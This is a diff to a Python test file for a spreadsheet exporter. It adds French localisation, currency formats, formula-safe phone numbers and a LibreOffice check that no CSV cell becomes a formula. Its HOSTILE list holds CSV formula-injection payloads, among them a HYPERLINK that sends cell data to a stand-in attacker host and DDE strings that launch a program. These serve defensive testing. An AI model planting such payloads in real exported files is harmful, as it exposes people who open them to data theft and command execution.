@@ -4,7 +4,10 @@ spreadsheet could run as a formula, in any format."""
 from __future__ import annotations
 
 import csv
+import doctest
 import io
+import shutil
+import subprocess
 from datetime import date
 from decimal import Decimal
 
@@ -12,8 +15,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from flows.sheets.files import MONEY_FORMAT, PERCENT_FORMAT, write_sheet
+import flows.sheets.files
+import scoring.sheet_locale
+from flows.sheets.files import MONEY_FORMAT, PERCENT_FORMAT, phone_text, write_sheet
 from scoring.sheet import SHEET_COLUMNS, SHEET_HEADERS, build_sheet
+from scoring.sheet_locale import FRENCH_HEADERS, headers
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Invoice")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -44,6 +50,10 @@ def _sheet() -> pd.DataFrame:
         "suggested_discount": [Decimal("0.125")] * n,
         "floor_price": [Decimal("1774.80")] * n,
         "acv": [Decimal("1879.20")] * n,
+        "currency": ["EUR", "GBP", *(["EUR"] * (n - 2))],
+        "approval_discount": [Decimal("0.15")] * n,
+        "terms": ['[{"years": 2, "discount": "0.05", "price": "1785.24", '
+                  '"floor_price": "1686.06"}]'] * n,
         "owner": ["Léa Rousseau", *(["-Evil owner"] * (n - 1))],
     })
     sheet = build_sheet(scored)
@@ -84,7 +94,7 @@ def test_the_french_csv_uses_semicolons_decimal_commas_and_day_first_dates(tmp_p
     path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", "fr")
     assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel FR needs the BOM for UTF-8
     header, first, second, *_ = _csv_rows(path, ";")
-    assert tuple(header) == SHEET_HEADERS
+    assert tuple(header) == tuple(headers("fr").values())
     row = dict(zip(NAMES, first, strict=True))
     assert row["expected_value"] == "1234567,89" and row["list_price"] == "2088,00"
     assert row["win_probability"] == "23,4" and row["discount"] == "12,5"
@@ -130,7 +140,67 @@ def test_the_xlsx_stores_numbers_with_money_and_percent_formats(tmp_path):
     assert blank["deal_value"].value is None  # left for the rep, already in euros
     assert blank["deal_value"].number_format == MONEY_FORMAT
     outcome_list = page.data_validations.dataValidation[0]
-    assert outcome_list.type == "list" and "won" in outcome_list.formula1
+    assert outcome_list.type == "list" and "gagné" in outcome_list.formula1  # read back by outcomes
+
+
+def test_the_french_sheet_has_french_headers_and_words_and_no_english_code(tmp_path):
+    assert set(FRENCH_HEADERS) == set(NAMES)  # a new column needs its French header
+    assert not set(FRENCH_HEADERS.values()) & (set(SHEET_HEADERS) - {"Plan", "Email"})
+    path = write_sheet(_sheet(), tmp_path / "s.csv", "csv", "fr")
+    _, first, *_ = _csv_rows(path, ";")
+    row = dict(zip(NAMES, first, strict=True))
+    assert row["source"] == "formulaire du site" and row["change"] == ""
+    assert row["multi_year"] == "2 ans : 1785,24 EUR (plancher 1686,06)"
+    assert row["approval"] == "15,0" and row["currency"] == "EUR"
+    english = dict(zip(NAMES, _csv_rows(write_sheet(_sheet(), tmp_path / "e.csv"), ",")[1],
+                       strict=True))
+    assert english["source"] == "web_form"
+    assert english["multi_year"] == "2 years: 1785.24 EUR (walk-away 1686.06)"
+
+
+def test_phones_read_without_an_apostrophe_in_csv_and_xlsx_and_stay_formula_safe(tmp_path):
+    # "+33 6 ..." would run as a formula: CSV writes "(+33) 6 ...", XLSX a quote-prefixed text
+    for locale, separator in (("en", ","), ("fr", ";")):
+        path = write_sheet(_sheet(), tmp_path / f"s.{locale}.csv", "csv", locale)
+        assert _csv_rows(path, separator)[1][NAMES.index("phone")] == "(+33) 6 12 34 56 78"
+    page = openpyxl.load_workbook(write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")).worksheets[0]
+    phone = page.cell(row=2, column=NAMES.index("phone") + 1)
+    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+33 6 12 34 56 78", "s", True)
+    assert phone_text("'+33612345678") == "'+33612345678"  # no separator: stays neutralised
+    assert phone_text("'-1 555") == "'-1 555" and phone_text("'+=1+1") == "'+=1+1"
+
+
+# LibreOffice's CSV filter: comma, double quote, UTF-8, from line 1, ..., "evaluate formulas" on
+# (the last token), the most dangerous way a rep could open the file.
+_LO_CSV = "CSV:44,34,76,1,,0,false,true,false,false,false,false,true"
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_opens_the_csv_phones_as_text_and_runs_no_formula(tmp_path):
+    """Even with formula evaluation on, no cell becomes a formula and phones stay text."""
+    path = write_sheet(_sheet(), tmp_path / "s.csv")
+    bare = tmp_path / "bare.csv"  # the check is real: the same filter runs a bare formula
+    bare.write_text("a\r\n=1+1\r\n", encoding="utf-8")
+    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
+                    f"--infilter={_LO_CSV}", "--convert-to", "xlsx", "--outdir",
+                    str(tmp_path / "lo"), str(path), str(bare)], check=True,
+                   capture_output=True, timeout=120)
+    assert openpyxl.load_workbook(tmp_path / "lo" / "bare.xlsx").worksheets[0]["A2"].data_type \
+        == "f"
+    page = openpyxl.load_workbook(tmp_path / "lo" / "s.xlsx").worksheets[0]
+    cells = [c for row in page.iter_rows() for c in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    phone = page.cell(row=2, column=NAMES.index("phone") + 1)
+    assert (phone.value, phone.data_type) == ("(+33) 6 12 34 56 78", "s")
+
+
+def test_xlsx_prices_show_the_rows_currency_and_expected_value_the_reference_one(tmp_path):
+    page = openpyxl.load_workbook(write_sheet(_sheet(), tmp_path / "s.xlsx", "xlsx")).worksheets[0]
+    gbp = {name: page.cell(row=3, column=i + 1) for i, name in enumerate(NAMES)}
+    assert gbp["currency"].value == "GBP"
+    assert gbp["acv"].number_format == gbp["floor_price"].number_format == '#,##0.00 "£"'
+    assert gbp["expected_value"].number_format == MONEY_FORMAT
 
 
 @pytest.mark.parametrize("locale", ["en", "fr"])
@@ -210,3 +280,9 @@ def test_the_xlsx_prints_landscape_one_page_wide_with_the_header_on_every_page(t
     assert page.print_title_rows == "$1:$1"
     assert page.page_margins.left == 0.4 and page.page_margins.top == 0.6
     assert page.print_options.gridLines
+
+
+def test_the_docstring_examples_of_the_sheet_files_and_words_run():
+    for module in (flows.sheets.files, scoring.sheet_locale):
+        result = doctest.testmod(module)
+        assert result.attempted >= 3 and result.failed == 0, module.__name__
